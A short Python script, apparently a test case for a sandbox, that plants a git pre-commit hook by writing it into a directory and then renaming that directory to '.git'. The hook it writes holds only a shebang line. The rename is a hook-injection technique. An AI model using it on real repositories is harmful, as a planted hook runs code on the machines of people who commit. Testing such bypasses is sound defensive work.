import os

from inside import run


def attack(target):
    os.makedirs(f"{target.work}/mine/hooks")
    with open(f"{target.work}/mine/hooks/pre-commit", "w") as file:
        file.write("#!/bin/sh\n")
    os.rename(f"{target.work}/mine", f"{target.work}/.git")


run(attack)
